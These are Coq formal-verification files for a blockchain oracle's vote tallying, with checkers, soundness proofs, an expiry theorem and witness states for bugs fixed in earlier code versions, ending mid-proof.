    exists v. split; auto. apply andb_true_iff. split; [apply Z.eqb_eq | apply Z.ltb_lt]; auto.
Qed.

Lemma quorum_b_iff p st pr : quorum_b p st pr = true <-> quorum p st pr.
Proof.
  unfold quorum_b, quorum. rewrite !andb_true_iff, memb_iff, negb_true_iff, !Z.leb_le, Z.eqb_neq.
  tauto.
Qed.
Lemma quorum_b_false p st pr : quorum_b p st pr = false <-> ~ quorum p st pr.
Proof. rewrite <- quorum_b_iff. destruct (quorum_b p st pr); split; intro H; congruence. Qed.

Lemma expired_b_iff p e h : expired_b p e h = true <-> expired_at p e h.
Proof. unfold expired_b, expired_at. apply Z.leb_le. Qed.
Lemma expired_b_false p e h : expired_b p e h = false <-> ~ expired_at p e h.
Proof. rewrite <- expired_b_iff. destruct (expired_b p e h); split; intro H; congruence. Qed.

Lemma Pb_update_sound p st h obs : Pb_update p st h obs = true -> P_update p st h obs.
Proof.
  destruct obs as [|rs evs]; simpl; [discriminate|].
  intro H. repeat (apply andb_true_iff in H as [H ?]).
  rename H into H1, H3 into H2, H2 into H3, H1 into H4, H0 into H5.
  rewrite forallb_forall in H1, H2, H3, H4, H5.
  exists rs, evs. split; [reflexivity|]. split; [|split].
  - intro pr. split.
    + intro Hin. apply quorum_b_iff. apply H1. exact Hin.
    + intro Hq. assert (Hw : In pr (whitelist st)) by (destruct Hq; assumption).
      specialize (H2 pr Hw). apply quorum_b_iff in Hq. rewrite Hq in H2. simpl in H2.
      apply memb_iff. exact H2.
  - intros pr m Hin. specialize (H3 (pr, m) Hin). simpl in H3.
    apply andb_true_iff in H3 as [Ha Hb]. split; [apply is_median_b_iff | apply in_rates_iff]; assumption.
  - intro e. split.
    + intro Hin. specialize (H4 e Hin). apply orb_true_iff in H4 as [Ha | Hb].
      * left. apply andb_true_iff in Ha as [Ha Hc]. apply andb_true_iff in Ha as [Ha Hb].
        apply negb_true_iff in Hb, Hc. split; [apply in_rates_iff; exact Ha|].
        split; [apply quorum_b_false | apply expired_b_false]; assumption.
      * right. apply andb_true_iff in Hb as [Ha Hb]. split; [apply in_evs_iff; exact Ha | apply Z.eqb_eq; exact Hb].
    + intros [[Hin [Hq He]] | [Hin Hc]].
      * specialize (H5 e Hin). apply quorum_b_false in Hq. apply expired_b_false in He.
        rewrite Hq, He in H5. simpl in H5. apply in_rates_iff. exact H5.
      * specialize (H3 _ Hin). simpl in H3. apply andb_true_iff in H3 as [_ Hb].
        apply in_rates_iff in Hb. destruct e as [ep er ec]. simpl in *. subst ec. exact Hb.
Qed.

Lemma Pb_idle_sound st obs : Pb_idle st obs = true -> P_idle st obs.
Proof.
  destruct obs as [|rs evs]; simpl; [discriminate|]. destruct evs; [|discriminate].
  intro H. apply andb_true_iff in H as [H1 H2]. rewrite forallb_forall in H1, H2.
  exists rs. split; [reflexivity|]. intro e. split; intro Hin.
  - apply in_rates_iff. apply H1. exact Hin.
  - apply in_rates_iff. apply H2. exact Hin.
Qed.

Lemma Pb_sound p st h obs : Pb p st h obs = true -> P p st h obs.
Proof.
  unfold Pb, P. destruct (is_period_last h (p_vote_period p)).
  - intros H Hd. rewrite Hd in H. simpl in H. apply Pb_update_sound. exact H.
  - apply Pb_idle_sound.
Qed.

(* ================================================================ histories of vote periods *)

(** what is observed after each step of a history *)
Record hobs := mkHObs {
  ho_panic : bool; ho_rates : list rate_entry; ho_events : list (nat * Z);
  ho_votes : list avote;             (* Votes store after the EndBlocker, sorted by voter *)
  ho_prevotes : list (nat * Z) }.    (* Prevotes store after the EndBlocker *)

Definition ho_outcome (o : hobs) : outcome := if ho_panic o then Panic else Done (ho_rates o) (ho_events o).

(** The property of one step.  [cast] = the votes submitted since the last vote-period end (tracked by
    the specification, NOT read from the implementation's store), [pvs] = the prevotes that should exist.
    - the outcome satisfies the single-step property P w.r.t. exactly the votes of THIS period;
    - at a period end no vote survives and a prevote survives iff height < submit + VotePeriod;
      otherwise both stores just accumulate. *)
Definition P_hstep (p : params) (e : henv) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
           (x : hstep) (cur : hobs) : Prop :=
  let vs := put_votes cast (hp_votes x) in
  let pv := put_prevotes pvs (hp_prevotes x) in
  P p (env_state e vs rs) (hp_h x) (ho_outcome cur) /\
  (ho_panic cur = false ->
   if is_period_last (hp_h x) (p_vote_period p)
   then ho_votes cur = [] /\ ho_prevotes cur = filter (keep_prevote p (hp_h x)) pv
   else ho_votes cur = vs /\ ho_prevotes cur = pv).

Fixpoint P_hist (p : params) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
         (l : list (henv * hstep * hobs)) : Prop :=
  match l with
  | [] => True
  | (e, x, cur) :: r =>
      P_hstep p e rs cast pvs x cur /\
      (ho_panic cur = false ->
       let vs := put_votes cast (hp_votes x) in
       let pv := put_prevotes pvs (hp_prevotes x) in
       if is_period_last (hp_h x) (p_vote_period p)
       then P_hist p (ho_rates cur) [] (filter (keep_prevote p (hp_h x)) pv) r
       else P_hist p (ho_rates cur) vs pv r)
  end.

Fixpoint leqb {A} (eqb : A -> A -> bool) (a b : list A) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => eqb x y && leqb eqb a' b'
  | _, _ => false
  end.
Lemma leqb_eq {A} (eqb : A -> A -> bool) :
  (forall x y, eqb x y = true -> x = y) -> forall a b, leqb eqb a b = true -> a = b.
Proof.
  intro H. induction a as [|x a IH]; intros [|y b] E; simpl in E; try discriminate; [reflexivity|].
  apply andb_true_iff in E as [E1 E2]. rewrite (H _ _ E1), (IH _ E2). reflexivity.
Qed.
Definition avote_eqb (a b : avote) : bool := Nat.eqb (a_voter a) (a_voter b) && leqb ev_eqb (a_tuples a) (a_tuples b).
Lemma avote_eqb_eq a b : avote_eqb a b = true -> a = b.
Proof.
  destruct a, b. unfold avote_eqb. simpl. intro H. apply andb_true_iff in H as [H1 H2].
  apply Nat.eqb_eq in H1. apply (leqb_eq ev_eqb ev_eqb_eq) in H2. subst. reflexivity.
Qed.

Definition Pb_hstep (p : params) (e : henv) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
           (x : hstep) (cur : hobs) : bool :=
  let vs := put_votes cast (hp_votes x) in
  let pv := put_prevotes pvs (hp_prevotes x) in
  Pb p (env_state e vs rs) (hp_h x) (ho_outcome cur) &&
  (ho_panic cur ||
   if is_period_last (hp_h x) (p_vote_period p)
   then leqb avote_eqb (ho_votes cur) [] && leqb ev_eqb (ho_prevotes cur) (filter (keep_prevote p (hp_h x)) pv)
   else leqb avote_eqb (ho_votes cur) vs && leqb ev_eqb (ho_prevotes cur) pv).

Fixpoint Pb_hist (p : params) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
         (l : list (henv * hstep * hobs)) : bool :=
  match l with
  | [] => true
  | (e, x, cur) :: r =>
      Pb_hstep p e rs cast pvs x cur &&
      (ho_panic cur ||
       let vs := put_votes cast (hp_votes x) in
       let pv := put_prevotes pvs (hp_prevotes x) in
       if is_period_last (hp_h x) (p_vote_period p)
       then Pb_hist p (ho_rates cur) [] (filter (keep_prevote p (hp_h x)) pv) r
       else Pb_hist p (ho_rates cur) vs pv r)
  end.

Lemma Pb_hstep_sound p e rs cast pvs x cur : Pb_hstep p e rs cast pvs x cur = true -> P_hstep p e rs cast pvs x cur.
Proof.
  unfold Pb_hstep, P_hstep. cbv zeta. intro H. apply andb_true_iff in H as [H1 H2].
  split; [apply Pb_sound; exact H1|]. intro Hp. rewrite Hp in H2. simpl in H2.
  destruct (is_period_last (hp_h x) (p_vote_period p)); apply andb_true_iff in H2 as [A B];
    (split; [apply (leqb_eq avote_eqb avote_eqb_eq); exact A | apply (leqb_eq ev_eqb ev_eqb_eq); exact B]).
Qed.

Lemma Pb_hist_sound p : forall l rs cast pvs, Pb_hist p rs cast pvs l = true -> P_hist p rs cast pvs l.
Proof.
  induction l as [|[[e x] cur] l IH]; intros rs cast pvs H; [exact I|].
  cbn [Pb_hist P_hist] in *. apply andb_true_iff in H as [H1 H2].
  split; [apply Pb_hstep_sound; exact H1|]. intro Hp. rewrite Hp in H2. simpl in H2. cbv zeta in *.
  destruct (is_period_last (hp_h x) (p_vote_period p)); apply IH; exact H2.
Qed.

(* ================================================================ message level *)

(** what is observed of one block of a message-level history: the accept flag of every message, then, after the
    EndBlocker, the rates, events, the Votes store read by KEY (operator address, tuples) and the Prevotes store *)
Record mobs := mkMObs {
  mo_acc : list bool; mo_panic : bool; mo_rates : list rate_entry; mo_events : list (nat * Z);
  mo_votes : list avote; mo_prevotes : list (nat * Z) }.

Definition mo_outcome (o : mobs) : outcome := if mo_panic o then Panic else Done (mo_rates o) (mo_events o).

Definition del_prevote (v : nat) (l : list (nat * Z)) : list (nat * Z) := filter (fun y => negb (Nat.eqb (fst y) v)) l.

(** one vote per (validator, pair): of several tuples naming the same pair only the first counts.  (The parser of the
    current code refuses such strings, so for it this is the identity; a message server that accepts them must not let one
    validator weigh twice on a pair.) *)
Fixpoint dedup_pairs (ts : list (nat * Z)) : list (nat * Z) :=
  match ts with
  | [] => []
  | t :: r => t :: filter (fun u => negb (Nat.eqb (fst u) (fst t))) (dedup_pairs r)
  end.

(** The votes cast in the current period, tracked by the SPECIFICATION from the messages and their observed accept
    flags — never read from the implementation's store.  A vote belongs to the VALIDATOR its [validator] field
    decodes to, however that field is spelled, and is keyed by (validator, pair): an accepted vote message replaces that
    validator's vote — at most ONE rate per pair ([dedup_pairs]), so every validator's power counts once per pair and the
    voters of a pair are distinct validators — and consumes its prevote; an accepted prevote is recorded with the block height.  [None]: a message was accepted although its
    validator field stands for nobody. *)
Fixpoint track (h : Z) (cast : list avote) (pvs : list (nat * Z)) (l : list (omsg * bool))
  : option (list avote * list (nat * Z)) :=
  match l with
  | [] => Some (cast, pvs)
  | (MVote m, true) :: r =>
      match decode (vm_validator m) with
      | Some v => track h (put_vote (mkAVote v (dedup_pairs (vm_tuples m))) cast) (del_prevote v pvs) r
      | None => None
      end
  | (MPrevote m, true) :: r =>
      match decode (pm_validator m) with
      | Some v => track h cast (put_prevote (v, h) pvs) r
      | None => None
      end
  | _ :: r => track h cast pvs r
  end.

(** The property of one block: the EndBlocker outcome satisfies P w.r.t. exactly the votes the bonded validators
    cast (by identity) in THIS period through accepted messages; the stores afterwards are as for [P_hstep]. *)
Definition P_mstep (p : params) (e : henv) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
           (x : mstep) (cur : mobs) : Prop :=
  length (mo_acc cur) = length (mp_msgs x) /\
  exists cast' pvs', track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur)) = Some (cast', pvs') /\
    P p (env_state e cast' rs) (mp_h x) (mo_outcome cur) /\
    (mo_panic cur = false ->
     if is_period_last (mp_h x) (p_vote_period p)
     then mo_votes cur = [] /\ mo_prevotes cur = filter (keep_prevote p (mp_h x)) pvs'
     else mo_votes cur = cast' /\ mo_prevotes cur = pvs').

Fixpoint P_mhist (p : params) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
         (l : list (henv * mstep * mobs)) : Prop :=
  match l with
  | [] => True
  | (e, x, cur) :: r =>
      P_mstep p e rs cast pvs x cur /\
      (mo_panic cur = false ->
       match track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur)) with
       | None => True
       | Some (cast', pvs') =>
           if is_period_last (mp_h x) (p_vote_period p)
           then P_mhist p (mo_rates cur) [] (filter (keep_prevote p (mp_h x)) pvs') r
           else P_mhist p (mo_rates cur) cast' pvs' r
       end)
  end.

Definition Pb_mstep (p : params) (e : henv) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
           (x : mstep) (cur : mobs) : bool :=
  Nat.eqb (length (mo_acc cur)) (length (mp_msgs x)) &&
  match track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur)) with
  | None => false
  | Some (cast', pvs') =>
      Pb p (env_state e cast' rs) (mp_h x) (mo_outcome cur) &&
      (mo_panic cur ||
       if is_period_last (mp_h x) (p_vote_period p)
       then leqb avote_eqb (mo_votes cur) [] && leqb ev_eqb (mo_prevotes cur) (filter (keep_prevote p (mp_h x)) pvs')
       else leqb avote_eqb (mo_votes cur) cast' && leqb ev_eqb (mo_prevotes cur) pvs')
  end.

Fixpoint Pb_mhist (p : params) (rs : list rate_entry) (cast : list avote) (pvs : list (nat * Z))
         (l : list (henv * mstep * mobs)) : bool :=
  match l with
  | [] => true
  | (e, x, cur) :: r =>
      Pb_mstep p e rs cast pvs x cur &&
      (mo_panic cur ||
       match track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur)) with
       | None => true
       | Some (cast', pvs') =>
           if is_period_last (mp_h x) (p_vote_period p)
           then Pb_mhist p (mo_rates cur) [] (filter (keep_prevote p (mp_h x)) pvs') r
           else Pb_mhist p (mo_rates cur) cast' pvs' r
       end)
  end.

Lemma Pb_mstep_sound p e rs cast pvs x cur : Pb_mstep p e rs cast pvs x cur = true -> P_mstep p e rs cast pvs x cur.
Proof.
  unfold Pb_mstep, P_mstep. intro H. apply andb_true_iff in H as [Hl H]. apply Nat.eqb_eq in Hl.
  split; [exact Hl|].
  destruct (track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur))) as [[cast' pvs']|]; [|discriminate].
  exists cast', pvs'. split; [reflexivity|]. apply andb_true_iff in H as [H1 H2].
  split; [apply Pb_sound; exact H1|]. intro Hp. rewrite Hp in H2. simpl in H2.
  destruct (is_period_last (mp_h x) (p_vote_period p)); apply andb_true_iff in H2 as [A B];
    (split; [apply (leqb_eq avote_eqb avote_eqb_eq); exact A | apply (leqb_eq ev_eqb ev_eqb_eq); exact B]).
Qed.

Lemma Pb_mhist_sound p : forall l rs cast pvs, Pb_mhist p rs cast pvs l = true -> P_mhist p rs cast pvs l.
Proof.
  induction l as [|[[e x] cur] l IH]; intros rs cast pvs H; [exact I|].
  cbn [Pb_mhist P_mhist] in *. apply andb_true_iff in H as [H1 H2].
  split; [apply Pb_mstep_sound; exact H1|]. intro Hp. rewrite Hp in H2. simpl in H2.
  destruct (track (mp_h x) cast pvs (combine (mp_msgs x) (mo_acc cur))) as [[cast' pvs']|]; [|exact I].
  destruct (is_period_last (mp_h x) (p_vote_period p)); apply IH; exact H2.
Qed.
