(** C10 — evaluation of implementation traces: [mismatch] (model outcome <> observed outcome) and
    [violates] (the property checker [Pb] is false on the OBSERVED outcome). *)
From Coq Require Import ZArith List Bool Arith.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec.
Local Open Scope Z_scope.

(** a case is either one EndBlocker call on a prepared state or a history of steps on one keeper *)
Inductive case :=
| CSingle (p : params) (st : state) (h : Z) (obs : outcome)
| CHist (p : params) (rates0 : list rate_entry) (steps : list (henv * hstep * hobs))
(** parameter acceptance: Params.Validate result, MsgEditOracleParams result (None = not applicable),
    stored parameters as expected afterwards *)
| CParams (p : params) (validate_ok : bool) (edit_ok : option bool) (stored_ok : bool)
(** a history of blocks on one keeper in which every vote enters through the message server (prevote, vote and
    feeder-delegation messages, address fields in any spelling); per block the staking view read before its
    EndBlocker, the messages and what was observed *)
| CMsg (p : params) (rates0 : list rate_entry) (steps : list (henv * mstep * mobs)).
Definition mkCase := CSingle.

(** the ExchangeRates store is compared as a list sorted by pair (its iteration order) *)
Fixpoint insert_rate (e : rate_entry) (l : list rate_entry) : list rate_entry :=
  match l with
  | [] => [e]
  | x :: r => if Nat.leb (r_pair e) (r_pair x) then e :: l else x :: insert_rate e r
  end.
Definition sort_rates (l : list rate_entry) : list rate_entry := fold_right insert_rate [] l.

Fixpoint rates_eqb (a b : list rate_entry) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => rate_eqb x y && rates_eqb a' b'
  | _, _ => false
  end.
Fixpoint evs_eqb (a b : list (nat * Z)) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => ev_eqb x y && evs_eqb a' b'
  | _, _ => false
  end.

Definition outcome_eqb (a b : outcome) : bool :=
  match a, b with
  | Panic, Panic => true
  | Done r1 e1, Done r2 e2 => rates_eqb (sort_rates r1) (sort_rates r2) && evs_eqb e1 e2
  | _, _ => false
  end.

Definition votes_eqb : list avote -> list avote -> bool := leqb avote_eqb.

Definition hstep_agrees (r : option (hstate * list (nat * Z))) (o : hobs) : bool :=
  match r with
  | None => ho_panic o
  | Some (s, evs) =>
      negb (ho_panic o) && rates_eqb (sort_rates (hs_rates s)) (sort_rates (ho_rates o)) && evs_eqb evs (ho_events o) &&
      votes_eqb (hs_votes s) (ho_votes o) && evs_eqb (hs_prevotes s) (ho_prevotes o)
  end.

Fixpoint hist_cmp (p : params) (s : hstate) (l : list (henv * hstep * hobs)) : bool :=
  match l with
  | [] => true
  | (e, x, o) :: r =>
      let res := hist_step true p e s x in
      hstep_agrees res o && match res with None => true | Some (s', _) => hist_cmp p s' r end
  end.

Fixpoint bools_eqb (a b : list bool) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => Bool.eqb x y && bools_eqb a' b'
  | _, _ => false
  end.

(** model of the current message server + EndBlocker vs the observed block: accept flag of every message, rates,
    events, Votes store read by key, Prevotes store *)
Definition mstep_agrees (r : list bool * option (mstate * list (nat * Z))) (o : mobs) : bool :=
  bools_eqb (fst r) (mo_acc o) &&
  match snd r with
  | None => mo_panic o
  | Some (s, evs) =>
      negb (mo_panic o) && rates_eqb (sort_rates (ms_rates s)) (sort_rates (mo_rates o)) && evs_eqb evs (mo_events o) &&
      votes_eqb (map to_avote (ms_votes s)) (mo_votes o) && evs_eqb (map to_prevote (ms_prevotes s)) (mo_prevotes o)
  end.

Fixpoint mhist_cmp (p : params) (s : mstate) (l : list (henv * mstep * mobs)) : bool :=
  match l with
  | [] => true
  | (e, x, o) :: r =>
      let res := mhist_step true true true p e s x in
      mstep_agrees res o && match snd res with None => true | Some (s', _) => mhist_cmp p s' r end
  end.

(** the code accepts exactly the parameter values of [Spec.params_valid], directly and through an edit;
    a rejected edit changes nothing *)
Definition params_accept_ok (p : params) (v : bool) (ed : option bool) (st : bool) : bool :=
  Bool.eqb (params_valid p) v && match ed with None => true | Some b => Bool.eqb (params_valid p) b end && st.

Definition mismatch (c : case) : bool :=
  match c with
  | CSingle p st h obs => negb (outcome_eqb (end_block true p st h) obs)
  | CHist p rs steps => negb (hist_cmp p (mkHS rs [] []) steps)
  | CParams p v ed st => negb (params_accept_ok p v ed st)
  | CMsg p rs steps => negb (mhist_cmp p (mkMS rs [] [] []) steps)
  end.
Definition violates (c : case) : bool :=
  match c with
  | CSingle p st h obs => negb (Pb p st h obs)
  | CHist p rs steps => negb (Pb_hist p rs [] [] steps)
  | CParams p v ed st => negb (params_accept_ok p v ed st)
  | CMsg p rs steps => negb (Pb_mhist p rs [] [] steps)
  end.
