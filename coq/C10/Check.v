(** C10 — evaluation of implementation traces: [mismatch] (model outcome <> observed outcome) and
    [violates] (the property checker [Pb] is false on the OBSERVED outcome). *)
From Coq Require Import ZArith List Bool Arith.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec.
Local Open Scope Z_scope.

Record case := mkCase { c_params : params; c_state : state; c_height : Z; c_obs : outcome }.

(** the ExchangeRates store is compared as a list sorted by pair (its iteration order) *)
Fixpoint insert_rate (e : rate_entry) (l : list rate_entry) : list rate_entry :=
  match l with
  | [] => [e]
  | x :: r => if Nat.leb (r_pair e) (r_pair x) then e :: l else x :: insert_rate e r
  end.
Definition sort_rates (l : list rate_entry) : list rate_entry := fold_right insert_rate [] l.

Fixpoint rates_eqb (a b : list rate_entry) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => rate_eqb x y && rates_eqb a' b'
  | _, _ => false
  end.
Fixpoint evs_eqb (a b : list (nat * Z)) : bool :=
  match a, b with
  | [], [] => true
  | x :: a', y :: b' => ev_eqb x y && evs_eqb a' b'
  | _, _ => false
  end.

Definition outcome_eqb (a b : outcome) : bool :=
  match a, b with
  | Panic, Panic => true
  | Done r1 e1, Done r2 e2 => rates_eqb (sort_rates r1) (sort_rates r2) && evs_eqb e1 e2
  | _, _ => false
  end.

Definition model_outcome (c : case) : outcome := end_block true (c_params c) (c_state c) (c_height c).

Definition mismatch (c : case) : bool := negb (outcome_eqb (model_outcome c) (c_obs c)).
Definition violates (c : case) : bool := negb (Pb (c_params c) (c_state c) (c_height c) (c_obs c)).
