(** C10 — histories (exact expiry), witnesses for the pre-fix code and for inputs outside the
    overflow-free domain, non-vacuity examples.  Re-exports the other proof files. *)
From Coq Require Import ZArith List Bool Arith Lia Permutation.
Import ListNotations.
Require Import Nib.Lib.Dec Nib.C10.Model Nib.C10.Spec Nib.C10.Cfg.
Require Export Nib.C10.ProofsMedian Nib.C10.ProofsUpdate Nib.C10.ProofsPanic Nib.C10.ProofsIrrelevant Nib.C10.ProofsHist Nib.C10.ProofsMsg.
Local Open Scope Z_scope.
Local Arguments Z.mul : simpl never.
Local Arguments Z.add : simpl never.
Local Arguments Z.div : simpl never.

(* ---------------------------------------------------------------- histories of blocks *)

(** everything a block's EndBlocker reads except the ExchangeRates store *)
Record block_in := mkBlockIn {
  bi_validators : list valinfo; bi_maxv : nat; bi_btok : Z; bi_pr : Z;
  bi_whitelist : list nat; bi_votes : list avote }.

Definition mk_state (b : block_in) (rs : list rate_entry) : state :=
  mkState (bi_validators b) (bi_maxv b) (bi_btok b) (bi_pr b) (bi_whitelist b) (bi_votes b) rs.

(** consecutive blocks h, h+1, ...; the store is threaded through; None = a block panicked *)
Fixpoint run (p : params) (rs : list rate_entry) (h : Z) (bs : list block_in) : option (list rate_entry) :=
  match bs with
  | [] => Some rs
  | b :: bs' =>
      match end_block true p (mk_state b rs) h with
      | Panic => None
      | Done rs' _ => run p rs' (h + 1) bs'
      end
  end.

(** ExpirationBlocks is a uint64; after commit 48f939b nothing else is needed (no wrap-around) *)
Definition no_wrap (p : params) (e : rate_entry) : Prop := 0 <= p_expiration p.

Lemma expired_no_wrap p e h : no_wrap p e -> (expired p e h = true <-> r_created e + p_expiration p <= h).
Proof. intro H. apply (expired_iff p e h H). Qed.

Lemma step_in p st h rs1 evs e :
  end_block true p st h = Done rs1 evs -> ~ quorum p st (r_pair e) -> no_wrap p e ->
  (In e rs1 <-> In e (rates st) /\ ~ (is_period_last h (p_vote_period p) = true /\ r_created e + p_expiration p <= h)).
Proof.
  intros Hb Hq Hn. unfold end_block in Hb. destruct (is_period_last h (p_vote_period p)).
  - apply update_done in Hb as [He Hr]. subst rs1.
    rewrite in_app_iff, filter_In, negb_true_iff, orb_false_iff, memb_false, valid_pairs_iff.
    split.
    + intros [[Hin [_ Hx]] | Hin].
      * split; [exact Hin|]. intros [_ Hle]. apply (expired_no_wrap p e h Hn) in Hle. congruence.
      * exfalso. apply in_map_iff in Hin as [[pr m] [E Hin]]. subst e evs. simpl in Hq.
        apply in_map_iff in Hin as [pr' [E Hv]]. injection E as -> _. apply valid_pairs_iff in Hv. contradiction.
    + intros [Hin Hx]. left. split; [exact Hin|]. split; [exact Hq|].
      destruct (expired p e h) eqn:E; [|reflexivity]. exfalso. apply Hx. split; [reflexivity|].
      apply (expired_no_wrap p e h Hn). exact E.
  - injection Hb as <- _. split; [intro H; split; [exact H | intros [D _]; discriminate] | intros [H _]; exact H].
Qed.

Lemma run_not_in p e : forall bs rs h rs',
  (forall b rs0, In b bs -> ~ quorum p (mk_state b rs0) (r_pair e)) -> no_wrap p e ->
  run p rs h bs = Some rs' -> ~ In e rs -> ~ In e rs'.
Proof.
  induction bs as [|b bs IH]; simpl; intros rs h rs' Hq Hn Hr Hin.
  - injection Hr as <-. exact Hin.
  - destruct (end_block true p (mk_state b rs) h) as [|rs1 evs] eqn:E; [discriminate|].
    apply (IH rs1 (h + 1) rs'); auto.
    intro H1. apply (step_in p _ h rs1 evs e E (Hq b rs (or_introl eq_refl)) Hn) in H1 as [H1 _]. apply Hin. exact H1.
Qed.

(** a rate that is not refreshed stays exactly until the first vote-period end whose height is at
    least created + ExpirationBlocks *)
Theorem expiry_exact p e : no_wrap p e -> forall bs rs h rs',
  (forall b rs0, In b bs -> ~ quorum p (mk_state b rs0) (r_pair e)) ->
  run p rs h bs = Some rs' -> In e rs ->
  (In e rs' <-> forall k, (k < length bs)%nat ->
                          is_period_last (h + Z.of_nat k) (p_vote_period p) = true ->
                          h + Z.of_nat k < r_created e + p_expiration p).
Proof.
  intro Hn. induction bs as [|b bs IH]; simpl; intros rs h rs' Hq Hr Hin.
  - injection Hr as <-. split; [intros _ k Hk; lia | intros _; exact Hin].
  - destruct (end_block true p (mk_state b rs) h) as [|rs1 evs] eqn:E; [discriminate|].
    pose proof (step_in p _ h rs1 evs e E (Hq b rs (or_introl eq_refl)) Hn) as Hs. simpl in Hs.
    assert (Hq' : forall b0 rs0, In b0 bs -> ~ quorum p (mk_state b0 rs0) (r_pair e)) by (intros; apply Hq; right; assumption).
    destruct (is_period_last h (p_vote_period p)) eqn:Ep.
    + destruct (Z_le_gt_dec (r_created e + p_expiration p) h) as [Hle|Hgt].
      * (* dropped now *)
        assert (Hout : ~ In e rs1) by (intro H1; apply Hs in H1 as [_ H1]; apply H1; split; [reflexivity | exact Hle]).
        split.
        -- intro H1. exfalso. apply (run_not_in p e bs rs1 (h + 1) rs' Hq' Hn Hr Hout). exact H1.
        -- intro H1. specialize (H1 0%nat ltac:(lia)). rewrite Z.add_0_r in H1. specialize (H1 Ep). lia.
      * assert (Hin1 : In e rs1) by (apply Hs; split; [exact Hin | intros [_ H1]; lia]).
        rewrite (IH rs1 (h + 1) rs' Hq' Hr Hin1). split.
        -- intros H1 k Hk Hp. destruct k as [|k]; [rewrite Z.add_0_r; lia|].
           specialize (H1 k ltac:(lia)). replace (h + 1 + Z.of_nat k) with (h + Z.of_nat (S k)) in H1 by lia. auto.
        -- intros H1 k Hk Hp. specialize (H1 (S k) ltac:(lia)).
           replace (h + Z.of_nat (S k)) with (h + 1 + Z.of_nat k) in H1 by lia. auto.
    + assert (Hin1 : In e rs1) by (apply Hs; split; [exact Hin | intros [D _]; discriminate]).
      rewrite (IH rs1 (h + 1) rs' Hq' Hr Hin1). split.
      * intros H1 k Hk Hp. destruct k as [|k]; [rewrite Z.add_0_r in Hp; congruence|].
        specialize (H1 k ltac:(lia)). replace (h + 1 + Z.of_nat k) with (h + Z.of_nat (S k)) in H1 by lia. auto.
      * intros H1 k Hk Hp. specialize (H1 (S k) ltac:(lia)).
        replace (h + Z.of_nat (S k)) with (h + 1 + Z.of_nat k) in H1 by lia. auto.
Qed.

(* ---------------------------------------------------------------- witnesses *)

Definition p_ex : params := mkParams 1 500000000000000000 1 10 20000000000000000.
Definition five : Z := 5000000000000000000.

(** F7: two validators of power 1; validator 0 votes 5.0 on pair 0, validator 1 abstains *)
Definition st_f7 : state :=
  mkState [mkVal 0 true 1; mkVal 1 true 1] 100 2000000 1000000 [0%nat]
          [mkAVote 0 [(0%nat, five)]; mkAVote 1 [(0%nat, 0)]] [].

Lemma f7_fixed : end_block true p_ex st_f7 4 = Done [mkRate 0 five 4] [(0%nat, five)].
Proof. vm_compute. reflexivity. Qed.
Lemma f7_before_fix : end_block false p_ex st_f7 4 = Done [mkRate 0 0 4] [(0%nat, 0)].
Proof. vm_compute. reflexivity. Qed.
Lemma f7_wf : wf st_f7.
Proof. intros v [<-|[<-|[]]]; simpl; lia. Qed.
Lemma f7_domain : domain p_ex st_f7 4 = true.
Proof. vm_compute. reflexivity. Qed.

(** before commit d9ae51e the abstention's rate 0 was published: the property is false of that code *)
Theorem refuted_before_fix :
  exists p st h, wf st /\ domain p st h = true /\ ~ P p st h (end_block false p st h).
Proof.
  exists p_ex, st_f7, 4. split; [exact f7_wf|]. split; [exact f7_domain|].
  intro HP. unfold P in HP. change (is_period_last 4 (p_vote_period p_ex)) with true in HP.
  specialize (HP f7_domain). destruct HP as [rs [evs [E [_ [H2 _]]]]].
  rewrite f7_before_fix in E. injection E as <- <-.
  destruct (H2 0%nat 0 (or_introl eq_refl)) as [Hm _].
  apply is_median_b_iff in Hm. vm_compute in Hm. discriminate.
Qed.

(** ... and there the abstention did influence the outcome *)
Theorem abstain_influence_before_fix :
  exists p st h, wf st /\ update false p (strip st) h <> update false p st h.
Proof. exists p_ex, st_f7, 4. split; [exact f7_wf|]. vm_compute. discriminate. Qed.

(** before 48f939b: ExpirationBlocks close to 2^64 wrapped the uint64 addition and a fresh rate was
    dropped at once; the current code keeps it *)
Definition st_one (rate : Z) (rs : list rate_entry) : state :=
  mkState [mkVal 0 true 1] 100 1000000 1000000 [0%nat] [mkAVote 0 [(0%nat, rate)]] rs.

Theorem expiry_wrap_before_fix :
  exists p st h e, wf st /\ domain p st h = true /\ In e (rates st) /\ ~ expired_at p e h /\ ~ quorum p st (r_pair e) /\
                   end_block_gen true false true p st h = Done [] [] /\
                   end_block true p st h = Done [e] [].
Proof.
  exists (mkParams 1 500000000000000000 1 (UINT64 - 1) 0),
         (mkState [mkVal 0 true 1] 100 1000000 1000000 [0%nat] [] [mkRate 0 five 5]), 9, (mkRate 0 five 5).
  split; [intros v [<-|[]]; simpl; lia|]. split; [vm_compute; reflexivity|]. split; [left; reflexivity|].
  split; [unfold expired_at; simpl; unfold UINT64; lia|].
  split; [intros [_ [Hz _]]; apply Hz; reflexivity|]. split; vm_compute; reflexivity.
Qed.

(** before 66a0ce3: a median close to the Dec limit made Tally's median.Add(spread) panic; the current
    code publishes it *)
Theorem tally_add_panics_before_fix :
  exists p st h, wf st /\ domain p st h = true /\ quorum p st 0%nat /\
                 end_block_gen true true false p st h = Panic /\
                 end_block true p st h = Done [mkRate 0 DEC_LIMIT h] [(0%nat, DEC_LIMIT)].
Proof.
